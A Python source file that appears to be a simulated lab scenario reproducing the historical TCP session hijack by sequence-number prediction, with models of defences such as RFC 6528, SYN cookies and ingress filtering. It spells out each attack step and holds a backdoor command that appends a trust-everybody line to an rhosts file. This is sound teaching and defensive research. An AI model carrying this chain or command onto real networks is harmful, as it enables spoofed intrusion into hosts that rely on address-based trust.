"""Session hijacking via initial sequence number impersonation: the whole chain (Morris 1985, Bellovin 1989, 1994)."""

import asyncio
from collections.abc import Iterator, Mapping
from contextlib import suppress
from dataclasses import dataclass, replace
from typing import ClassVar

from halfopen.base.rng import SeededRng
from halfopen.lab.attacks.hijack_drawing import essential, mermaid
from halfopen.lab.crafting import make_segment
from halfopen.lab.generators import GENERATORS
from halfopen.lab.modulator import Modulator
from halfopen.lab.permit import SIMULATION_ONLY
from halfopen.lab.predictors import Predictor, choose_predictor
from halfopen.lab.probing import Prober
from halfopen.lab.results import Result
from halfopen.lab.scenario import Outcome, Parameter, Scenario, Settings
from halfopen.lab.silencing import Gag, Saturation
from halfopen.lab.trust import DONE, EVERYBODY, LOGIN, PORT, RHOSTS, Shell, TrustService, request, shell_command
from halfopen.lab.world import Layout, World
from halfopen.stack.config import IpConfig, StackConfig, TcpLayerConfig
from halfopen.tcp.config import SecurityConfig, TcpConfig
from halfopen.tcp.master_keys import MasterKey

COMMAND = f"echo {EVERYBODY} >> {RHOSTS}"
PAYLOAD = request(COMMAND)
GAP = 0.05
"""Seconds from the last honest SYN to the spoofed one."""
TIMER = 63.0
"""Seconds that a half-open connection lasts on the client: 1 + 2 + 4 + 8 + 16 + 32 (4.3BSD: 75)."""
LINE = 1.5
"""Mbit/s of the client's line where it is saturated: a T1."""
OBJECTION = 0.02
"""Seconds from the server to the client and back: when its RST is there, counted from the spoofed SYN."""
BUDGET = 3
OLD = TcpConfig(security=SecurityConfig(permit=SIMULATION_ONLY, legacy_alloc_before_flags=True))
SOBER = frozenset({"modern-client", "syn-cookies", "syn-cache"})
"""Of these clients none makes a connection of a segment before it has looked at the flags."""
BIG = 32
STRONG = frozenset({"rfc6528", "csprng", "linux"})
OBVIOUS = frozenset({"constant", "i800", "bsd42", "bsd43"})
"""Predicted in two guesses."""
HOPELESS = frozenset({"rfc6528", "modulate", "tcp-ao"})
"""Defences with which each guess is one of 2^32, or of more."""


class Hijack(Scenario):
    """From the first probe to the attacker's own login."""

    name = "hijack"
    title = "Session hijacking: a client impersonated by its server's initial sequence numbers"
    text = (
        "The server trusts the client's address. The attacker, elsewhere, sees no packet of theirs, but may send any"
        " source address. (1) He opens connections of his own and learns from the server's numbers how it makes them."
        " (2) He fills the half-open table of one port of the client, so that this port says nothing any more. (3) In"
        " the client's name, from that port, he sends SYN to the server; the SYN,ACK goes to the client, and he never"
        " sees it. (4) He sends the third segment with the number that he has guessed, and in it a command: trust"
        " everybody. (5) He looks whether he is let in now, under his own address; if not, he tries the next number."
        " At the end he takes back all that could be noticed. One right number of 2^32 is all that the trust has ever"
        " rested on."
    )
    parameters: ClassVar[Mapping[str, Parameter]] = {
        "generator": Parameter("bsd43", text="the server's initial sequence numbers", choices=tuple(GENERATORS)),
        "backlog": Parameter(8, "half-open connections", "that each port of the client holds", least=1, most=BIG),
        "silencing": Parameter("flood", text="of the client", choices=("flood", "saturation", "none")),
        "overload": Parameter(10.0, "times", "what the client's line carries, when saturated", above=1, most=100),
        "probes": Parameter(20, "connections", "of the attacker's own, to learn from", least=6, most=5000),
        "lead": Parameter(50.0, "ms", "from the spoofed SYN to the guess", least=0, most=1000),
        "guesses": Parameter(16, "segments", "for one SYN at most", least=1, most=20_000),
        "rounds": Parameter(3, "SYNs", "in the client's name at most", least=1, most=1000),
        "jitter": Parameter(0.0, "ms", "on the attacker's line, either way", least=0, most=5),
        "hold": Parameter(0.0, "s", "that the client is kept silent before the guess", least=0, most=3600),
    }
    ip_versions: ClassVar[tuple[int, ...]] = (4, 6)
    ipv4_defences: ClassVar[frozenset[str]] = frozenset({"modulate"})
    defences: ClassVar[Mapping[str, str]] = {
        "rfc6528": "the server adds a keyed hash of addresses and ports to its clock (RFC 6528)",
        "modern-client": "the client looks at the flags first: RST for a SYN,ACK, however full (RFC 9293 3.10.7.2)",
        "syn-cookies": "the client's table cannot be filled: it sends cookies instead (RFC 4987 3.6)",
        "syn-cache": "the client's table cannot be filled: the oldest has to go (RFC 4987 3.7)",
        "ingress-filter": "the attacker's router forwards no foreign sources (BCP 38)",
        "modulate": "the server's router adds a keyed offset to its numbers (pf's modulate state)",
        "bad-ack-budget": f"the server forgets who has sent {BUDGET} wrong ACKs: of no use against one right guess",
        "big-backlog": f"the client holds {BIG} half-open connections: of no use, the flood is that much longer",
        "tcp-ao": "server and client sign their segments (RFC 5925)",
    }

    def play(self, settings: Settings) -> Outcome:
        """One attack."""
        with World(settings, make_layout(settings)) as world:
            outcome = world.run(Story(world, settings).tell())
        if not settings.record:
            return outcome
        ladder = Result(scenario=self, settings=settings, outcome=outcome).ladder
        drawing = mermaid(ladder.arrows, COMMAND)
        return replace(outcome, texts={"As a Mermaid diagram": drawing})


def make_layout(settings: Settings) -> Layout:
    """The hosts as ``settings`` want them."""
    on = settings.defences
    isn = GENERATORS["rfc6528" if "rfc6528" in on else settings.word("generator")]
    server = TcpLayerConfig(
        isn=isn(SeededRng(f"generator {settings.seed}")),
        syn_cookies="off",
        bad_ack_budget=BUDGET if "bad-ack-budget" in on else None,
    )
    client = TcpLayerConfig(
        half_open=backlog_of(settings),
        syn_cookies="overflow" if "syn-cookies" in on else "off",
        eviction="oldest" if "syn-cache" in on else "drop-new",
    )
    configs = {
        "server": StackConfig(tcp_layer=server),
        "client": StackConfig(tcp_layer=client, tcp=TcpConfig() if on & SOBER else OLD),
        "edge": StackConfig(ip=IpConfig(ingress_filter="ingress-filter" in on)),
    }
    return Layout(configs=configs)


@dataclass(slots=True)
class Tally:
    """What the attack has cost."""

    guesses: int = 0
    syns: int = 0
    """In the client's name."""
    packets: int = 0
    seconds: float = 0.0
    flood: int = 0
    """SYNs that it took to silence the client."""
    kept: int = 0
    """SYNs that it took to keep it silent."""


class Story:
    """The chain, step by step."""

    def __init__(self, world: World, settings: Settings) -> None:
        self.world = world
        self.settings = settings
        self.tally = Tally()
        self.service = TrustService(Shell(world.places.client))
        self.prober = Prober(world.attacker, world.places.server, PORT)
        self.gag = Gag(world, LOGIN)
        self._own_port = 1023
        world.tape.shorten(world.places.spoofed, 2000)

    async def tell(self) -> Outcome:
        """From the hosts' start to the client's next honest command."""
        world = self.world
        await self._start()
        await asyncio.sleep(world.rng.below(500) / 1000)  # Nobody knows where in the server's slow tick he comes in.
        begin = world.elapsed
        world.attacker.sniff()
        predictor = await self._learn()
        keeping = await self._silence()
        await self._impersonate(predictor)
        self.tally.packets, self.tally.seconds = world.attacker.count, world.elapsed - begin
        for task in keeping:
            task.cancel()
        await self.gag.let_go()
        await world.at_rest(1.0)
        return self._outcome(predictor, is_served=await self._client_is_served())

    async def _start(self) -> None:
        world, on = self.world, self.settings.defences
        await self.service.start(world.server)
        await TrustService(Shell()).start(world.client, LOGIN)
        if "modulate" in on:
            Modulator(world.network, world.router, "198.51.100.0/24", world.rng.octets(32))
        if "tcp-ao" in on:
            secret = world.rng.octets(16)
            world.server.stack.tcp.add_key(MasterKey(secret=secret, send_id=1, receive_id=1, peer=world.places.client))
            world.client.stack.tcp.add_key(MasterKey(secret=secret, send_id=1, receive_id=1, peer=world.places.server))
        jitter = self.settings.number("jitter")
        if jitter:
            world.cables["attacker-side"].impair(f"delay {5 + jitter:g}ms {jitter:g}ms limit 1000000")

    async def _learn(self) -> Predictor | None:
        """Pauses of two lengths: what a connection adds is told from what time does."""
        probes = self.settings.whole("probes")
        for number in range(probes):
            sample = await self.prober.ask(f"probe {number + 1} of {probes}: what is the server's number?")
            if sample is not None:
                await asyncio.sleep(0.02 if number % 2 else 0.1)
        return choose_predictor(self.prober.samples)

    async def _silence(self) -> list["asyncio.Task[None]"]:
        """The client says nothing from now on, if that can be had; what keeps it so."""
        way, gag = self.settings.word("silencing"), self.gag
        if way == "none":
            return []
        if way == "saturation":
            filling = asyncio.create_task(Saturation(self.world, LINE, self.settings.number("overload")).fill())
            await asyncio.sleep(0.1 + self.world.rng.below(100) / 1000)
            return [filling]
        await gag.close_mouth(most=backlog_of(self.settings) + 16)
        self.tally.flood = gag.syns
        keeping = asyncio.create_task(gag.keep_quiet(TIMER))
        if gag.is_silent and self.settings.number("hold"):
            await asyncio.sleep(self.settings.number("hold"))
            gag.is_silent = not await gag.answers()
            self.tally.kept = gag.syns - self.tally.flood
        return [keeping]

    async def _impersonate(self, predictor: Predictor | None) -> None:
        """SYN after SYN in the client's name, until the server's state has changed."""
        for _ in range(self.settings.whole("rounds")):
            self.tally.syns += 1
            if await self._one_handshake(predictor):
                break

    async def _one_handshake(self, predictor: Predictor | None) -> bool:
        """One SYN and all the guesses for it; whether one was right."""
        world = self.world
        began = world.elapsed
        await self.prober.ask("a last probe: where does the server stand now?")
        await asyncio.sleep(max(0.0, GAP - (world.elapsed - began)))
        cseq = world.rng.below(1 << 32)
        when = world.attacker.host.pump.now()
        self._spoof("S", cseq, comment="in the client's name, from the port that is silent; SSEQ stays unseen")
        await asyncio.sleep(self.settings.number("lead") / 1000)
        sent = 0
        for burst in bursts(self.settings.whole("guesses")):
            for number in range(sent + 1, sent + burst + 1):
                guess = self._guess(predictor, when, number)
                self.tally.guesses += 1
                comment = f"guess {self.tally.guesses}: SSEQ = {guess}, with '{COMMAND}'"
                self._spoof(".", cseq + 1, ack=guess + 1, payload=PAYLOAD, comment=comment)
            sent += burst
            if await self._is_let_in():
                self._spoof("R", cseq + 1 + len(PAYLOAD), comment="ends the connection before it is noticed")
                return True
        self._spoof("R", cseq + 1, comment="takes the SYN back")
        return False

    def _guess(self, predictor: Predictor | None, when: int, number: int) -> int:
        """The candidate of this rank, or any."""
        guess = predictor.guess(self.prober.samples, when, number) if predictor is not None else None
        return self.world.rng.below(1 << 32) if guess is None else guess

    def _spoof(self, flags: str, seq: int, *, comment: str, ack: int = 0, payload: bytes = b"") -> None:
        segment = make_segment((LOGIN, PORT), flags, seq=seq, ack=ack, payload=payload)
        places = self.world.places
        self.world.attacker.send(segment, source=places.client, destination=places.server, comment=comment)

    async def _is_let_in(self) -> bool:
        """Whether the attacker may give commands under his own address: then the payload was executed."""
        self._own_port -= 1
        if self._own_port < 512:
            self._own_port = 1022
        return await self._is_served(self.world.places.attacker, f"cat {RHOSTS}", self._own_port)

    async def _client_is_served(self) -> bool:
        return await self._is_served(self.world.places.client, "echo business >> log", 1023)

    async def _is_served(self, who: str, command: str, port: int) -> bool:
        host = self.world.attacker.host if who == self.world.places.attacker else self.world.client
        with suppress(OSError, TimeoutError):
            return (await asyncio.wait_for(shell_command(host, "server", command, port), 5.0)).startswith(DONE)
        return False

    def _outcome(self, predictor: Predictor | None, *, is_served: bool) -> Outcome:
        tally, has_worked = self.tally, self.service.shell.trusts(self.world.places.attacker)
        metrics = {
            "success": float(has_worked),
            "guesses": float(tally.guesses),
            "SYNs in the client's name": float(tally.syns),
            "packets": float(tally.packets),
            "virtual seconds": round(tally.seconds, 3),
            "the client is served afterwards": float(is_served),
        }
        if self.settings.word("silencing") == "flood":
            metrics["client silent"] = float(self.gag.is_silent)
            metrics["SYNs to silence"] = float(tally.flood)
            hold = self.settings.number("hold")
            if hold and self.gag.is_silent:
                metrics["SYN/s to keep it silent"] = tally.kept / hold
        return self.world.outcome(
            attack_succeeded=has_worked,
            metrics=metrics,
            theory=expected(self.settings),
            counts={"success": (int(has_worked), 1)},
            tolerance={"SYN/s to keep it silent": 0.15},
            notes=tuple(remarks(self.settings, tally, predictor)),
            essential=essential,
        )


def can_object(settings: Settings) -> float:
    """How likely the client's RST is to end the connection before the guess comes."""
    if settings.number("lead") / 1000 < OBJECTION:
        return 0.0
    way = settings.word("silencing")
    if way == "saturation":
        return 1 / settings.number("overload")
    return 1.0 if way == "none" or settings.defences & SOBER else 0.0


def expected(settings: Settings) -> dict[str, float]:
    """What theory says of the figures; of success nothing if it hangs on how many guesses there may be."""
    on, generator = settings.defences, settings.word("generator")
    theory = {"the client is served afterwards": 1.0}
    if on & HOPELESS or generator in STRONG:
        theory["success"] = settings.whole("guesses") * settings.whole("rounds") / 2**32
    elif generator in OBVIOUS and settings.whole("guesses") > 1:
        theory["success"] = 1 - can_object(settings) ** settings.whole("rounds")
    if on & {"ingress-filter"}:
        theory["success"] = 0.0
    if settings.word("silencing") == "flood":
        is_gagged = not on & (SOBER | {"ingress-filter"})
        theory["client silent"] = float(is_gagged)
        if is_gagged:
            theory["SYNs to silence"] = float(backlog_of(settings))
            theory["SYN/s to keep it silent"] = backlog_of(settings) / TIMER
    return theory


def remarks(settings: Settings, tally: Tally, predictor: Predictor | None) -> Iterator[str]:
    """What to see in a run."""
    on = settings.defences
    if predictor is None:
        yield "The attacker's own connections tell him nothing: his guesses are blind, one of 2^32 each."
    else:
        yield f"What predicts the server's numbers best: {predictor.name}. Guesses: {tally.guesses}."
    if settings.number("lead") / 1000 < OBJECTION:
        yield (
            "The guess is on its way before the SYN,ACK has reached the client: whoever needs one guess only does not"
            f" have to silence anybody. He has one round trip between server and client, {OBJECTION * 1000:g} ms."
        )
    elif settings.word("silencing") == "flood" and on & SOBER:
        yield (
            f"{tally.flood} SYNs did not silence the client. A flood never silences a host of today: it says RST to a"
            " SYN,ACK that it did not ask for, however full its table is, and that ends the impersonation."
        )
    elif settings.word("silencing") == "saturation":
        yield (
            "A host of today is silenced by losing the SYN,ACK on a full line: one in"
            f" {settings.number('overload'):g} still arrives, and is answered by RST."
        )
    if "bad-ack-budget" in on:
        yield f"A budget of {BUDGET} wrong ACKs stops who has to try many; who is right at once has sent no wrong one."
    if "big-backlog" in on:
        yield f"A larger table costs the attacker {BIG} SYNs instead of {settings.whole('backlog')}, once: no defence."
    if "ingress-filter" in on:
        yield "Not one packet with a foreign source has left the attacker's network."


def backlog_of(settings: Settings) -> int:
    """Half-open connections that a port of the client holds."""
    return BIG if "big-backlog" in settings.defences else settings.whole("backlog")


def bursts(guesses: int) -> Iterator[int]:
    """How many guesses there are between two looks: 1, 1, 2, 4, 8 ... so that looks are few, and guesses not many."""
    sent = 0
    while sent < guesses:
        burst = min(max(1, sent), guesses - sent)
        yield burst
        sent += burst
